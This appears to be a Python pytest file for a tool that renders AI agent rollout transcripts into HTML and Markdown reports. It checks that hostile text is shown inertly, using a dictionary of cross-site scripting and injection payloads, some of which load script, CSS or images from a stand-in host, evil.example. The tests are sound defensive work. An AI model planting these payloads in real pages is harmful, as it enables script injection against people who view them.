"""Transcripts are hostile: whatever they hold is shown as text, bounded, and the report stays well-formed."""

import html
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from blade.report.visible import bounded, one_line, slug, visible
from tests.building import Row, call, message, result, row, write
from tests.report.making import Page, analysis, markdown, page, report

_UNHURRIED = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "ended script": "</script></style></title></svg><script src=//evil.example/x.js></script>",
    "svg": "<svg onload=alert(1)><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
    "style": "</style><style>body{display:none}@import url(https://evil.example/x.css)</style>",
    "attribute": '" onmouseover="alert(1)" style="position:fixed;background:url(https://evil.example/p.png)',
    "link": "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) ![x](https://evil.example/p.png)",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} {{ page.__class__ }}",
    "cells": "a | b || c\\| d | `e|f` |\n|---|---|\n| x | y |",
    "ticks": "``` `` ` ```` ~~~\n```\n# not a heading\n```",
    "headings": "# one\n## Executive Summary\n---\n> quote\n- item\n1. item\n<details><summary>x</summary>",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x08\x08\x7f",
    "bidi": "\u202eevil\u202c \u2066isolated\u2069 \u200frtl \u061c",
    "invisible": "a\u200bb\ufeffc\u2060d\u00ade \U000e0041\U000e0042",
    "broken": "lone \ud800 surrogate \udfff",
    "stacked": "z" + "\u0300\u0301\u0302" * 40,
    "comment": "--> <!-- <![CDATA[ ]]> &lt;b&gt; &#x3C;script&#x3E;",
}


def poisoned(text: str, task: int, rollout: int) -> Row:
    """A rollout that says something hostile wherever it may say anything."""
    passes = rollout == 0
    return row(
        message(text),
        call(f"tool {text[:60]}", {"argument": text, text[:40]: 1}, "c1"),
        result({"error": text}, "c1"),
        message(text, rollout=rollout),
        task=task,
        rollout=rollout,
        prompt=[message(text, role="user")],
        reward=float(passes),
        agent_ref={"name": f"agent {text[:80]}"},
        category=text[:100] if task % 2 else "other",
        failure_reason=None if passes else text,
        error_kind=None if passes else text[:120],
    )


def poisoned_runs(directory: Path, text: str) -> Path:
    for name in ("a", "b"):
        rows = [poisoned(text, task, rollout) for task in range(4) for rollout in range(3 if name == "a" else 2)]
        write(directory / f"{name}_rollouts.jsonl", rows)
    (directory / "a_rollouts_notes.md").write_text(text, "utf-8", "replace")
    return directory


_ELEMENTS = (
    "html head meta title style body a div header p span h1 h2 h3 h4 dl dt dd nav details summary ol ul li main"
    " section article table caption thead tbody tfoot tr th td code pre strong abbr figure figcaption blockquote mark"
    " footer svg g path rect circle line text tspan desc defs pattern polyline polygon ellipse"
)
ALLOWED = set(_ELEMENTS.split())
"""Elements that a report is made of; none of them runs or loads anything."""

_FOREIGN = re.compile(r"^(?:on\w+|src|srcset|srcdoc|action|formaction|background|poster|data|xlink:href)$")


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_is_shown_as_text(attack: str, tmp_path: Path) -> None:
    report(poisoned_runs(tmp_path / "runs", ATTACKS[attack]), tmp_path / "out", redact=False)
    found = page(tmp_path / "out")
    assert found.tags <= ALLOWED
    assert len([tag for tag, _ in found.elements if tag == "style"]) == 1
    for tag, attributes in found.elements:
        assert not [name for name in attributes if _FOREIGN.match(name)], (tag, attributes)
        assert tag != "a" or (attributes["href"] or "").startswith("#")
        assert "style" not in attributes
    assert len(found.ids) == len(set(found.ids))
    assert _controls((tmp_path / "out" / "report.html").read_text("utf-8")) == set()
    assert _controls(markdown(tmp_path / "out")) == set()
    assert _misshapen_tables(markdown(tmp_path / "out")) == []
    assert (
        re.findall(r"^## .+$", _without_fences(markdown(tmp_path / "out")), re.MULTILINE)[0] == "## Executive Summary"
    )
    analysis(tmp_path / "out")


def _controls(text: str) -> set[str]:
    """Characters that would steer a terminal, a browser or a reader's eye."""
    return {
        f"U+{ord(character):04X}"
        for character in text
        if unicodedata.category(character) in ("Cc", "Cf", "Cs") and character not in "\n\t\u200c\u200d"
    }


def _without_fences(text: str) -> str:
    """Markdown without its blocks of code."""
    kept, fence = [], ""
    for line in text.split("\n"):
        ticks = re.match(r"^(?:> )?(`{3,})", line)
        if ticks and (not fence or ticks[1] == fence):
            fence = "" if fence else ticks[1]
        elif not fence:
            kept.append(line)
    return "\n".join(kept)


def _misshapen_tables(text: str) -> list[str]:
    """Rows of tables that have more or fewer cells than their header."""
    wrong, cells = [], 0
    for line in _without_fences(text).split("\n"):
        if not line.startswith("|"):
            cells = 0
            continue
        count = len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))
        cells = cells or count
        if count != cells:
            wrong.append(line)
    return wrong


def test_the_policy_names_the_hash_of_the_style_and_allows_nothing_else(tmp_path: Path) -> None:
    import base64
    import hashlib

    report(poisoned_runs(tmp_path / "runs", "plain"), tmp_path / "out")
    source = (tmp_path / "out" / "report.html").read_text("utf-8")
    style = source.partition("<style>")[2].partition("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policy = next(
        attributes["content"] or ""
        for _, attributes in Page(source).elements
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert "url(" not in style
    assert "@import" not in style


def test_a_message_of_ten_megabytes_is_cut_and_says_so(tmp_path: Path) -> None:
    long = "word " * 2_000_000
    rows = [poisoned("short", task, rollout) for task in range(3) for rollout in range(2)]
    for each in rows[1::2]:
        each["response"]["output"][0] = message(long)
        each["response"]["output"][2] = result({"error": f"broken: {long}"}, "c1")
        each["failure_reason"] = long
    write(tmp_path / "runs" / "long_rollouts.jsonl", rows)
    report(tmp_path / "runs", tmp_path / "out")
    assert (tmp_path / "out" / "report.html").stat().st_size < 600_000
    assert (tmp_path / "out" / "report.md").stat().st_size < 100_000
    assert re.search(r"about [\d,]{8,} more characters", markdown(tmp_path / "out"))
    analysis(tmp_path / "out")


def test_a_quote_far_down_a_long_step_is_what_is_shown_of_it(tmp_path: Path) -> None:
    filler = "nothing to see here. " * 3_000
    rows: list[Row] = []
    for task in range(8):
        for rollout in range(2):
            passes = rollout == 0
            said = "done" if passes else f"{filler}Error: no shelf with number {task}9."
            rows.append(
                row(
                    call("shelve", {"n": task}, "c1"),
                    result(said, "c1"),
                    message("Shelved."),
                    task=task,
                    rollout=rollout,
                    prompt=f"shelve {task}",
                    reward=float(passes),
                )
            )
    write(tmp_path / "runs" / "far_rollouts.jsonl", rows)
    report(tmp_path / "runs", tmp_path / "out")
    quotes = [mode["example"] for mode in analysis(tmp_path / "out")["runs"][0]["modes"] if mode["example"]]
    for quote in quotes:
        assert html.escape(quote["text"], quote=False)[:40] in (tmp_path / "out" / "report.html").read_text("utf-8")


@_UNHURRIED
@given(st.text(max_size=200))
def test_visible_text_has_no_controls_and_is_visible_already(text: str) -> None:
    shown = visible(text)
    assert _controls(shown) == set()
    assert visible(shown) == shown


@_UNHURRIED
@given(st.text(max_size=300), st.integers(5, 50))
def test_one_line_is_one_line_and_no_longer_than_told(text: str, most: int) -> None:
    shown = one_line(text, most)
    assert len(shown) <= most
    assert shown.splitlines() in ([], [shown])


@_UNHURRIED
@given(st.text(max_size=400), st.integers(20, 100))
def test_what_is_kept_and_what_is_cut_make_the_whole(text: str, most: int) -> None:
    kept, cut = bounded(text, most)
    assert text.startswith(kept)
    assert len(kept) + cut == len(text)
    assert cut == 0 or len(kept) <= most


@_UNHURRIED
@given(st.text(max_size=60), st.text(max_size=60))
def test_different_texts_have_different_slugs_which_are_safe_in_a_link(one: str, other: str) -> None:
    assert re.fullmatch(r"[a-z0-9_-]+", slug(one))
    assert (slug(one) == slug(other)) == (one == other)


_TEXTS = st.text(st.characters(exclude_categories=()), max_size=80)


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(_TEXTS, min_size=1, max_size=4))
def test_no_text_breaks_a_report(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    directory: Any = tmp_path_factory.mktemp("any")
    rows = [poisoned(texts[task % len(texts)], task, rollout) for task in range(3) for rollout in range(2)]
    write(directory / "any_rollouts.jsonl", rows)
    report(directory, directory / "out")
    found = page(directory / "out")
    assert found.tags <= ALLOWED
    assert _misshapen_tables(markdown(directory / "out")) == []
    analysis(directory / "out")
